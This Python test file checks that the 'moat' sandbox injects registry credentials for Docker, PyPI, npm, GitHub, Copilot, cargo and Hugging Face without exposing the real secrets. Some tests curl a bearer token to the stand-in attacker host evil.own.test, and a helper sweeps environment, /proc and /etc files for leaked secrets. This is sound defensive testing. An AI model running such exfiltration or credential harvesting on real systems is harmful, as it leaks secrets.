"""Registries and hubs by their own clients, against an origin that verifies the exact header: what
is inside has no secret, neither the granted one nor the tokens that come of it."""

import json
import os
import pathlib
import re
import shutil
import subprocess
import unittest

import harness
from harness import HERE, MoatTest
from test_record import described
from registry_origin import NAMES, RegistryOrigin, basic

SEARCH = """\
name: search
title: Search
host: search.own.test
hosts:
  - {host: search.own.test, json: [auth, api_key], paths: [/v1]}
sources:
  - prompt: Search key
placeholder: "srch_{random:32}"
env:
  SEARCH_KEY: "{placeholder}"
"""


def toolchain():
    """Where a cargo is that speaks HTTP to crates.io's index by itself (1.70); Debian 12's is older."""
    try:
        root = subprocess.run(["rustc", "--print", "sysroot"], capture_output=True, text=True)
        root = root.stdout.strip()
        told = subprocess.run([root + "/bin/cargo", "--version"], capture_output=True, text=True)
        version = re.match(r"cargo 1\.(\d+)", told.stdout)
    except OSError:
        return None
    return root if version and int(version[1]) >= 70 else None


class Registries(MoatTest):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.registry = RegistryOrigin(cls.root / "registry", HERE / "pki.sh", cls.token)
        cls.registry.fill()

    @classmethod
    def tearDownClass(cls):
        cls.registry.stop()
        super().tearDownClass()

    def setUp(self):
        super().setUp()
        self.registry.seen.clear()
        self.registry.refused.clear()

    @classmethod
    def origin_flags(cls):
        flags = ["--upstream-ca", cls.registry.ca]
        for host in NAMES:
            flags += ["--connect-to", "%s:443=127.0.0.1:%d" % (host, cls.registry.port)]
        return flags

    def grant(self, name, *flags, token=None):
        done = self.moat("grant", name, "--token-stdin", *self.origin_flags(), *flags,
                         input=(token or self.token) + "\n")
        self.assertEqual(done.returncode, 0, done.stderr)
        return done

    def sh(self, grant, script, expect=0, flags=()):
        """Runs it with the grant, and searches all that can be seen for the secrets."""
        done = self.run_moat(
            "sh", "-ec", "export HOME=${HOME:-/root}\n" + script + "\n"
            "cd /workspace; env >everything; cat /proc/*/environ >>everything 2>/dev/null || :\n"
            "find ~ /tmp /workspace /etc -type f -size -1000k ! -name everything -exec cat {} + "
            ">>everything 2>/dev/null || :", flags=["--grant", grant, *flags], expect=expect)
        said = done.stdout + done.stderr
        everything = (self.workspace / "everything").read_bytes().decode("latin-1")
        run = self.last_run()["id"]
        record = self.moat("trace", "--network", "--json", run).stdout
        record += self.moat("audit", "show", "--json", run).stdout
        self.assertIn("moat", record)
        for secret in self.registry.secrets():
            for seen in (said, everything, record):
                self.assertNotIn(secret, seen)
                self.assertNotIn(basic("_:" + secret)[12:-8], seen)
        return done

    def asked(self, host):
        return [entry for entry in self.registry.seen if entry["host"] == host]

    def of_type(self, kind):
        shown = self.moat("audit", "show", "--json", self.last_run()["id"]).stdout
        records = [json.loads(line) for line in shown.splitlines()]
        return [record["data"] for record in records if record["type"] == kind]

    # --- Docker -------------------------------------------------------------------------------
    def test_docker_hub_by_skopeo(self):
        self.grant("docker", token=self.registry.pair)
        done = self.sh("docker", """
            auth="--authfile $HOME/.docker/config.json"
            skopeo inspect $auth --raw docker://docker.io/you/it:latest >raw
            skopeo copy --insecure-policy -q $auth docker://docker.io/you/it:latest dir:here
            skopeo copy --insecure-policy -q $auth dir:here docker://docker.io/you/it:second
            t=$(curl -fsS 'https://auth.docker.io/token?service=registry' | sed 's/.*"token": "//; s/".*//')
            echo "token $t"
            curl -sS -o answer -w '%{http_code}\\n' -H "Authorization: Bearer $t" https://evil.own.test/
            curl -sS -o answer -w '%{http_code}\\n' -H "Authorization: Bearer foreign" \\
                https://registry-1.docker.io/v2/
            curl -sSL -o answer -w '%{http_code}\\n' -H "Authorization: Bearer $t" \\
                --oauth2-bearer $t https://registry-1.docker.io/v2/""")
        self.assertEqual((self.workspace / "raw").read_bytes(), self.registry.store["latest"])
        self.assertEqual(self.registry.store["second"], self.registry.store["latest"])
        lines = done.stdout.split()
        self.assertRegex(lines[-4], r"^moat_[0-9a-f]{40}$")
        self.assertEqual(lines[-3:], ["403", "401", "200"])
        self.assertEqual(self.asked("evil.own.test"), [])
        for entry in self.asked("production.cloudflare.docker.com"):
            self.assertNotIn("eyJ", str(entry["headers"]))
        minted = self.of_type("secret.minted")
        self.assertTrue(minted)
        for entry in minted:
            self.assertEqual((entry["grant"], entry["host"], entry["tokens"]),
                             ("docker", "auth.docker.io", 2))
            self.assertRegex(entry["expires"], r"^20\d\d-")
        self.assertEqual(sorted(minted[0]), sorted(described()["secret.minted"]))
        exchanges = {entry["request_id"]: entry for entry in self.trace()}
        self.assertEqual(exchanges[minted[0]["request_id"]]["host"], "auth.docker.io")

    def test_a_registry_of_ones_own_by_skopeo(self):
        # Its token server is beside it. The check is a GET of /v2/, which wants a token there.
        self.grant("docker", "--host", "registry.own.test", "--no-check", token=self.registry.pair)
        self.sh("docker", """
            skopeo inspect --authfile ~/.docker/config.json --raw docker://registry.own.test/you/it:latest >raw
            skopeo copy --insecure-policy -q --authfile ~/.docker/config.json \\
                docker://registry.own.test/you/it:latest dir:here""")
        self.assertEqual((self.workspace / "raw").read_bytes(), self.registry.store["latest"])
        self.grant("docker", token=self.registry.pair)

    def test_ecr_and_codeartifact(self):
        done = self.moat("grant", "aws", "--region", "us-east-1", "--no-check", *self.origin_flags(),
                         env={"AWS_ACCESS_KEY_ID": "AKIA" + "A" * 16,
                              "AWS_SECRET_ACCESS_KEY": "s" * 40})
        self.assertEqual(done.returncode, 0, done.stderr)
        self.sh("aws", """
            export AWS_EC2_METADATA_DISABLED=true
            host=1234.dkr.ecr.us-east-1.amazonaws.com
            aws ecr get-login-password >password
            skopeo login --authfile auth.json -u AWS --password-stdin $host <password
            skopeo inspect --authfile auth.json --raw docker://$host/you/it:latest >raw
            token=$(aws codeartifact get-authorization-token --domain own --query authorizationToken --output text)
            python3 -m pip install -q --no-deps --target here --disable-pip-version-check \\
                --index-url https://aws:$token@own-1234.d.codeartifact.us-east-1.amazonaws.com/simple/ hello
            curl -fsS -H "Authorization: Bearer $token" https://own-1234.d.codeartifact.us-east-1.amazonaws.com/npm/
            """)
        self.assertEqual((self.workspace / "raw").read_bytes(), self.registry.store["latest"])
        self.assertTrue((self.workspace / "here" / "hello.py").exists())
        self.assertRegex((self.workspace / "password").read_text(), r"^moat_[0-9a-f]{40}\n$")
        self.assertEqual({entry["host"][:12] for entry in self.of_type("secret.minted")},
                         {"api.ecr.us-e", "codeartifact"})

    # --- Python -------------------------------------------------------------------------------
    def test_twine(self):
        self.grant("pypi")
        self.sh("pypi", """
            python3 -c 'import sys; sys.path.insert(0, "/tests"); import zipfile
with zipfile.ZipFile("hello-1.0-py3-none-any.whl", "w") as w:
    w.writestr("hello-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: hello\\nVersion: 1.0\\n")
    w.writestr("hello-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
    w.writestr("hello-1.0.dist-info/RECORD", "")'
            twine upload --non-interactive --disable-progress-bar *.whl
            unset TWINE_USERNAME TWINE_PASSWORD
            twine upload --non-interactive --disable-progress-bar *.whl""")
        uploads = [entry for entry in self.asked("upload.pypi.org") if entry["method"] == "POST"]
        self.assertEqual(len(uploads), 2)  # by the variables, and by ~/.pypirc
        self.assertEqual(self.registry.refused, [])

    def test_pip_from_an_index_of_ones_own(self):
        self.grant("pypi", "--host", "pypi.own.test")
        done = self.sh("pypi", """
            python3 -m pip install -q --no-deps --target here --disable-pip-version-check \\
                --index-url https://pypi.own.test/simple/ hello
            PYTHONPATH=here python3 -m hello""")
        self.assertEqual(done.stdout, "hello from the index\n")
        self.assertEqual(self.registry.refused, [])
        self.grant("pypi")

    # --- npm ----------------------------------------------------------------------------------
    def npm(self, host, flags=()):
        self.grant("npm", *flags)
        real = shutil.which("npm", path=self.environment()["PATH"])
        script = """
            echo '{"name":"@own/hello","version":"1.0.1"}' >package.json
            npm whoami --registry https://$npm_host/; npm publish --silent --access public
            echo '{}' >package.json
            npm install --silent --no-audit --no-fund @own/hello
            node -p 'require("@own/hello")'""" if real else """
            t=$(sed -n 's,^//.*:_authToken=,,p' ~/.npmrc)
            curl -fsS https://$npm_host/-/whoami -H "Authorization: Bearer $t" | sed 's/.*: "//; s/".*//'
            curl -fsS https://$npm_host/@own%2fhello -X PUT -d '{}' -H "Authorization: Bearer $t" >/dev/null
            curl -fsS https://$npm_host/@own%2fhello -H "Authorization: Bearer $t" >/dev/null
            echo hello from npm"""
        done = self.sh("npm", "npm_host=%s\n" % host + script, flags=["--env", "NPM_CONFIG_UPDATE_NOTIFIER=false"])
        self.assertEqual(done.stdout, "your-username\nhello from npm\n")
        self.assertEqual({entry["method"] for entry in self.asked(host)}, {"GET", "PUT"})
        self.assertEqual(self.registry.refused, [])

    def test_npm(self):
        self.npm("registry.npmjs.org")

    def test_npm_from_a_registry_of_ones_own(self):
        # As projects have it, whose scope is there and all else at npm's.
        (self.workspace / ".npmrc").write_text("@own:registry=https://npm.own.test/\n")
        self.npm("npm.own.test", ["--host", "npm.own.test"])

    # --- others -------------------------------------------------------------------------------
    def test_gh(self):
        self.grant("github")
        done = self.sh("github", """
            gh auth status 2>&1 | grep -c 'Logged in to github.com'
            gh api user --jq .login
            gh api graphql -f query='{viewer{login}}' --jq .data.viewer.login
            gh api away; echo""")
        self.assertEqual(done.stdout.split()[:3], ["1", "your-username", "your-username"])
        self.assertEqual(self.registry.refused, [])
        caught = self.asked("evil.own.test")
        self.assertEqual(len(caught), 1)  # the redirect, without anything
        self.assertNotIn("authorization", [name.lower() for name, _ in caught[0]["headers"]])

    def test_copilot(self):
        self.grant("copilot")
        done = self.sh("copilot", """
            t=$(curl -fsS https://api.github.com/copilot_internal/v2/token \\
                -H "Authorization: token $COPILOT_GITHUB_TOKEN" | sed 's/.*"token": "//; s/".*//')
            echo "token $t"
            for own in $t $COPILOT_GITHUB_TOKEN; do
                curl -fsS https://api.githubcopilot.com/models -H "Authorization: Bearer $own" >>models
            done
            curl -sS -o answer -w '%{http_code}\\n' -H "Authorization: Bearer $t" https://evil.own.test/""")
        self.assertRegex(done.stdout, r"^token moat_[0-9a-f]{40}\n403\n$")
        sent = [dict(entry["headers"])["Authorization"] for entry in self.asked("api.githubcopilot.com")]
        self.assertEqual(len(sent), 2)
        self.assertIn(sent[0], self.registry.bearers)
        self.assertEqual(sent[1], "Bearer " + self.registry.token)
        self.assertEqual(self.of_type("secret.minted")[0]["grant"], "copilot")

    def test_cargo(self):
        """The shape of what cargo sends; cargo itself where there is one that knows how."""
        self.grant("cargo")
        cargo = toolchain()
        flags = []
        script = """
            curl -fsS https://index.crates.io/config.json >/dev/null
            curl -fsS -X PUT --data-binary x -H "Authorization: $CARGO_REGISTRY_TOKEN" \\
                https://crates.io/api/v1/crates/new >/dev/null"""
        if cargo:
            flags = ["--mount", cargo + ":/mnt/cargo:ro"]
            script = """
                mkdir -p hello/src; cd hello; touch src/lib.rs
                printf '[package]\\nname="hello"\\nversion="1.0.0"\\nlicense="MIT"\\ndescription="x"\\n' >Cargo.toml
                PATH=/mnt/cargo/bin:$PATH cargo publish --no-verify --allow-dirty"""
        self.sh("cargo", script, flags=flags)
        sent = [entry for entry in self.asked("crates.io") if entry["method"] == "PUT"]
        self.assertEqual(len(sent), 1)
        self.assertEqual(self.registry.refused, [])

    def test_huggingface(self):
        """The shape of what huggingface_hub sends, redirect included; that itself where it is."""
        self.grant("huggingface")
        library = os.environ.get("MOAT_TEST_HUGGINGFACE")  # a directory that pip installed it to
        if library:
            self.sh("huggingface", "PYTHONPATH=/mnt/hf python3 /mnt/hf/bin/hf auth whoami\n"
                    "PYTHONPATH=/mnt/hf HF_HUB_DISABLE_XET=1 python3 /mnt/hf/bin/hf download you/it f",
                    flags=["--mount", library + ":/mnt/hf:ro"])
        self.sh("huggingface", """
            curl -fsS -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/api/whoami-v2 >/dev/null
            curl -fsSL -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/you/it/resolve/main/f >/dev/null""")
        self.assertEqual(self.registry.refused, [])
        for entry in self.asked("cas.hf.co"):
            self.assertNotIn(self.token, str(entry["headers"]))

    def test_a_key_within_the_body(self):
        folder = self.moat_home / "providers"
        self.moat("list")
        for path in (self.moat_home, folder):
            if not path.exists():
                self.make_dir(path)
                path.chmod(0o700)
        (folder / "search.yaml").write_text(SEARCH)
        self.addCleanup((folder / "search.yaml").unlink)
        self.grant("search")
        done = self.sh("search", """
            post() { curl -sS -o answer -w '%{http_code} ' https://search.own.test/v1/find "$@"; }
            json='Content-Type: application/json'
            post -H "$json" -d '{"query":"x","auth":{"api_key":"'$SEARCH_KEY'"}}'; cat answer >first
            post -H "$json" -d '{"auth":{"api_key":"foreign"}}'
            post --http1.1 -H "$json" -H 'Transfer-Encoding: chunked' -d '{}'
            post -H "$json" -d '{"auth":{"api_key":"a","api_key":"foreign"}}'
            post -d '{"auth":{"api_key":"foreign"}}'
            head -c 1100000 /dev/zero | tr '\\0' ' ' | post -H "$json" --data-binary @-""")
        self.assertEqual(done.stdout.split(), ["200", "200", "200", "400", "415", "413"])
        self.assertIn("*" * len(self.token), (self.workspace / "first").read_text())
        self.assertEqual(len(self.asked("search.own.test")), 3)
        bodies = [entry.get("request_body", "") for entry in self.trace()]
        self.assertIn('{"auth":{"api_key":"[redacted]"}}', bodies)
        self.assertNotIn("foreign", "".join(bodies))


if __name__ == "__main__":
    harness.main()
